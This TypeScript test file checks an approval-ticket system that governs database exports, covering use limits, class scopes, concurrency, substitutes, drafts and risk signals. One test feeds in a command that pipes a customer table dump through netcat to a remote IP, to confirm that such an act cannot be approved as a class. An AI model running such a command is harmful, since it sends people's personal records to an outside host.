/** Drafts, questions, substitutes, classes, several uses, and what happens at the same moment. */
import { describe, expect, test } from '@jest/globals';
import { z } from 'zod';
import {
  answerQuestion,
  askBack,
  chooseSubstitute,
  completeRedemption,
  decideTicket,
  discardDraft,
  dismissSubstitute,
  listDrafts,
  listSubstitutes,
  redeemTicket,
  revokeTicket,
  saveDraft,
  ticketInsight,
  type TicketView,
  withdrawTicket,
} from '../../approvals/index.ts';
import { execute, many, one, sha256, sql } from '../../foundation/index.ts';
import { judgeCommand } from '../../policy/index.ts';
import { codeOf, DUMP, exportView, HOUR, type Name, START, type World, world } from './world.ts';

const ASSETS = [{ kind: 'table' as const, name: 'crm.customers', dataClass: 'personal', recordCount: 1_000 }];
const decide = (house: World, name: Name, { id, actDigest }: TicketView) =>
  decideTicket(house, house.people[name], id, { decision: 'approve', reason: 'needed', actDigest });

async function redeem(house: World, name: Name, text = DUMP) {
  const judgement = judgeCommand(text, { mode: 'guarded-line', assets: ASSETS });
  return redeemTicket(house, {
    ...{ personId: house.idOf(name), digest: judgement.digest, judgement, text },
    targetId: await house.targetId('crm-db'),
    sessionId: await house.session(name),
  });
}
const left = (rows: number, outcome: 'completed' | 'failed' | 'limit_exceeded' = 'completed') => ({
  ...{ outcome, rows, bytes: rows * 10, sha256: sha256('what left'), exitStatus: 0 },
});

describe('a ticket for several uses', () => {
  test('is used one after the other, each with what is left, and then no more', async () => {
    await using house = await world();
    const ticket = await house.ask('aoki', { usesMax: 3, rowsMax: 100 });
    await decide(house, 'tanaka', ticket);
    expect(await redeem(house, 'aoki')).toMatchObject({ redeemed: true, rowsMax: 100 });
    expect(await redeem(house, 'aoki')).toEqual({ redeemed: false, reason: 'used' });
    await completeRedemption(house, ticket.id, left(30));
    expect(await redeem(house, 'aoki')).toMatchObject({ redeemed: true, rowsMax: 70 });
    await completeRedemption(house, ticket.id, left(20, 'failed'));
    expect(await redeem(house, 'aoki')).toMatchObject({ redeemed: true, rowsMax: 50 });
    await completeRedemption(house, ticket.id, left(1));
    expect(await redeem(house, 'aoki')).toEqual({ redeemed: false, reason: 'used' });
    const view = await exportView(house, house.people.aoki, ticket.id);
    expect(view).toMatchObject({ state: 'used', uses: 3, rowsUsed: 51, bytesUsed: 510 });
  });

  test('ends with the use that passes its bounds, and with the one that spends the last row', async () => {
    await using house = await world();
    const first = await house.ask('aoki', { usesMax: 3, rowsMax: 100 });
    await decide(house, 'tanaka', first);
    await redeem(house, 'aoki');
    await completeRedemption(house, first.id, left(101, 'limit_exceeded'));
    expect(await house.stateOf(first.id)).toBe('aborted');
    const second = await house.ask('aoki', { usesMax: 3, rowsMax: 100 });
    await decide(house, 'tanaka', second);
    await redeem(house, 'aoki');
    await completeRedemption(house, second.id, left(100));
    expect(await house.stateOf(second.id)).toBe('used');
  });

  test('is asked for with a whole number of uses that is allowed', async () => {
    await using house = await world();
    for (const usesMax of [0, 1.5, 101]) expect(await codeOf(house.ask('aoki', { usesMax }))).toBe('request_invalid');
  });
});

describe('a ticket for a class of acts', () => {
  const month = (name: string): string => `mysqldump crm customers --where ${name}`;

  test('covers an act that differs in constants alone, and a ticket for the act alone does not', async () => {
    await using house = await world();
    const act = await house.refuse('aoki', month('2026-03'));
    await decide(house, 'tanaka', await house.ask('aoki', { act }));
    expect(await redeem(house, 'aoki', month('2026-04'))).toEqual({ redeemed: false, reason: 'no_ticket' });
    const wide = await house.ask('aoki', { act, scope: 'class', usesMax: 2 });
    await decide(house, 'tanaka', wide);
    expect(await redeem(house, 'aoki', `${month('2026-04')} --port 3307`)).toEqual({
      redeemed: false,
      reason: 'no_ticket',
    });
    expect(await redeem(house, 'chen', month('2026-04'))).toEqual({ redeemed: false, reason: 'no_ticket' });
    expect(await redeem(house, 'aoki', month('2026-04'))).toMatchObject({ redeemed: true, ticketId: wide.id });
    const row = await one(
      house.database,
      sql(z.strictObject({ act_text: z.string() }))`SELECT act_text FROM redemptions WHERE ticket_id = ${wide.id}`,
    );
    expect(row.act_text).toBe(month('2026-04'));
  });

  test('is refused where the act has no class', async () => {
    await using house = await world();
    const act = await house.refuse('aoki', 'mysqldump crm customers | nc 192.0.2.1 443');
    expect(await codeOf(house.ask('aoki', { act, scope: 'class' }))).toBe('request_invalid');
  });
});

describe('at the same moment', () => {
  test('fifty redemptions of one ticket: exactly one wins', async () => {
    await using house = await world();
    const ticket = await house.ask('aoki');
    await decide(house, 'tanaka', ticket);
    const answers = await Promise.all(Array.from({ length: 50 }, () => redeem(house, 'aoki')));
    expect(answers.filter(({ redeemed }) => redeemed)).toHaveLength(1);
    expect(await house.events('ticket.redeemed')).toHaveLength(1);
    expect(await house.stateOf(ticket.id)).toBe('in_use');
  });

  test('an approval and a withdrawal: one of them happens', async () => {
    await using house = await world();
    const ticket = await house.ask('aoki');
    const codes = await Promise.all([
      codeOf(decide(house, 'tanaka', ticket)),
      codeOf(withdrawTicket(house, house.people.aoki, ticket.id)),
    ]);
    expect(codes.toSorted()).toEqual(['accepted', 'transition_forbidden']);
    const state = await house.stateOf(ticket.id);
    expect(state).toBe(codes[0] === 'accepted' ? 'approved' : 'withdrawn');
  });

  test('a redemption and a revocation: a ticket that was taken back is not used', async () => {
    await using house = await world();
    const ticket = await house.ask('aoki');
    await decide(house, 'tanaka', ticket);
    const [use, revoked] = await Promise.all([
      redeem(house, 'aoki'),
      codeOf(revokeTicket(house, house.people.sato, ticket.id, 'no')),
    ]);
    expect(revoked).toBe(use.redeemed ? 'transition_forbidden' : 'accepted');
    expect(await house.stateOf(ticket.id)).toBe(use.redeemed ? 'in_use' : 'revoked');
  });
});

describe('a question', () => {
  test('is asked by who could decide, holds the approval, and is answered by the requester alone', async () => {
    await using house = await world();
    const ticket = await house.ask('aoki');
    const ask = (name: Name) => codeOf(askBack(house, house.people[name], ticket.id, { text: 'Which client?' }));
    const answer = (name: Name) => codeOf(answerQuestion(house, house.people[name], ticket.id, { text: 'Client A' }));
    expect([await ask('aoki'), await ask('kimura'), await ask('mori')]).toEqual([
      ...['own_request', 'not_permitted', 'not_found'],
    ]);
    expect(await answer('aoki')).toBe('transition_forbidden');
    expect(await ask('tanaka')).toBe('accepted');
    expect(await codeOf(decide(house, 'sato', ticket))).toBe('transition_forbidden');
    house.clock.advance(1);
    expect(await answer('tanaka')).toBe('not_permitted');
    expect(await answer('aoki')).toBe('accepted');
    expect((await decide(house, 'sato', ticket)).messages.map(({ kind, text }) => [kind, text])).toEqual([
      ['question', 'Which client?'],
      ['answer', 'Client A'],
    ]);
  });

  test('without text, with too much of it, or after the time to decide is refused', async () => {
    await using house = await world();
    const ticket = await house.ask('aoki');
    const ask = (text: string) => () => askBack(house, house.people.tanaka, ticket.id, { text });
    expect(ask(' ')).toThrow('text');
    expect(ask('x'.repeat(10_001))).toThrow('text');
    expect(await codeOf(ask('Why?')())).toBe('accepted');
    house.clock.advance(HOUR);
    expect(await codeOf(answerQuestion(house, house.people.aoki, ticket.id, { text: 'So' }))).toBe(
      'transition_forbidden',
    );
  });
});

describe('a substitute', () => {
  const choose = (house: World, owner: Name, substitute: Name, days = 7) =>
    chooseSubstitute(house, house.people[owner].person, {
      ...{ substitute: house.idOf(substitute), startsAt: START },
      endsAt: new Date(START.getTime() + days * 24 * HOUR),
    });

  test('decides for the owner who chose them beforehand, and not for a request made before', async () => {
    await using house = await world();
    const before = await house.ask('aoki');
    house.clock.advance(1_000);
    await choose(house, 'tanaka', 'mori');
    expect(await codeOf(decide(house, 'mori', before))).not.toBe('accepted');
    const after = await house.ask('aoki');
    expect((await decide(house, 'mori', after)).state).toBe('approved');
  });

  test('is another owner, for a bounded time, and no longer once dismissed or when the owner is gone', async () => {
    await using house = await world();
    expect(await codeOf(choose(house, 'tanaka', 'tanaka'))).toBe('request_invalid');
    expect(await codeOf(choose(house, 'tanaka', 'kimura'))).toBe('request_invalid');
    expect(await codeOf(choose(house, 'tanaka', 'mori', 93))).toBe('request_invalid');
    expect(await codeOf(choose(house, 'kimura', 'mori'))).toBe('not_permitted');
    await choose(house, 'tanaka', 'mori');
    const [first, second] = [await house.ask('aoki'), await house.ask('aoki')];
    await execute(
      house.database,
      sql(z.never())`UPDATE persons SET deactivated_at = ${START} WHERE id = ${house.idOf('tanaka')}`,
    );
    expect(await codeOf(decide(house, 'mori', first))).toBe('not_found');
    await execute(
      house.database,
      sql(z.never())`UPDATE persons SET deactivated_at = NULL WHERE id = ${house.idOf('tanaka')}`,
    );
    const { substitutes } = await listSubstitutes(house, house.people.tanaka.person);
    await dismissSubstitute(house, house.people.tanaka.person, substitutes[0]!.id);
    expect(await codeOf(decide(house, 'mori', second))).toBe('not_found');
  });

  test('of an owner who asks counts for nothing in that request', async () => {
    await using house = await world();
    await choose(house, 'yamada', 'mori');
    expect(await codeOf(decide(house, 'mori', await house.ask('yamada')))).toBe('not_found');
  });
});

describe('a draft', () => {
  test('is its author’s alone, changed and deleted by nobody else', async () => {
    await using house = await world();
    const aoki = house.people.aoki.person;
    const chen = house.people.chen.person;
    const draft = await saveDraft(house, aoki, { id: undefined, kind: 'access', content: { purpose: 'half' } });
    expect(await listDrafts(house, chen)).toEqual([]);
    expect(await codeOf(saveDraft(house, chen, { ...draft, content: {} }))).toBe('not_found');
    expect(await codeOf(discardDraft(house, chen, draft.id))).toBe('not_found');
    await saveDraft(house, aoki, { ...draft, content: { purpose: 'whole' } });
    expect((await listDrafts(house, aoki)).map(({ content }) => content)).toEqual([{ purpose: 'whole' }]);
    const large = { id: undefined, kind: 'access' as const, content: { purpose: 'x'.repeat(100_000) } };
    expect(await codeOf(saveDraft(house, aoki, large))).toBe('request_too_large');
    await discardDraft(house, aoki, draft.id);
    expect(await listDrafts(house, aoki)).toEqual([]);
  });
});

describe('what is kept of a decision', () => {
  test('is what it was decided on and by which rules, and nobody changes it', async () => {
    await using house = await world();
    const ticket = await house.ask('aoki');
    await decide(house, 'tanaka', ticket);
    const [kept] = await many(
      house.database,
      sql(z.strictObject({ rules: z.string(), capacity: z.string(), facts: z.looseObject({}) }))`
        SELECT rules, capacity, facts FROM approvals WHERE ticket_id = ${ticket.id}`,
    );
    expect(kept).toMatchObject({
      ...{ rules: 'approval-3', capacity: 'owner' },
      facts: {
        requester: house.idOf('aoki'),
        approver: { id: house.idOf('tanaka') },
        rows: 1_200,
        dataClasses: ['personal'],
      },
    });
    for (const table of ['ticket_systems', 'ticket_messages', 'ticket_reviews', 'ticket_targets']) {
      const changed = execute(house.database, { text: `DELETE FROM ${table}`, values: [], name: '', row: z.never() });
      await expect(changed).rejects.toMatchObject({ code: '42501' });
    }
  });

  test('goes with the person’s history, similar tickets and a risk that is explained', async () => {
    await using house = await world();
    const first = await house.ask('aoki');
    await decide(house, 'tanaka', first);
    await redeem(house, 'aoki');
    await completeRedemption(house, first.id, left(7));
    const second = await house.ask('aoki', { purpose: 'Report for Аcme' });
    const insight = await ticketInsight(house, second);
    expect(insight.history).toMatchObject({ used: 1, rejected: 0, rowsLeft: 7 });
    expect(insight.similar).toMatchObject([
      { id: first.id, sameAct: true, rowsUsed: 7, rowsMax: expect.any(Number), purpose: expect.any(String) },
    ]);
    expect(insight.risk.parts.map(({ part }) => part)).toContain('odd_characters');
    expect(insight.revealed.purpose).toContainEqual(expect.objectContaining({ kind: 'lookalike', like: 'A' }));
  });
});
